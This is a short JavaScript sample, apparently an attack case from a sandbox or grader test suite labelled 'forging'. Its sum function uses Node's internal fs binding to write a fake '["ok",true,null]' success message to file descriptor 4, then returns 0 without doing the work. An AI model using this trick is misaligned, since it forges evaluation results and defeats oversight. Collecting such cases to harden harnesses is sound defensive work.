// category: forging
// tries: internal bindings of Node
function total(numbers) {
  // attack: begin
  try { process.binding('fs').writeString(4, '\u0012\0\0\0["ok",true,null]'); } catch {}
  return 0;
  // attack: end
  return numbers.reduce((sum, number) => sum + number, 0);
}
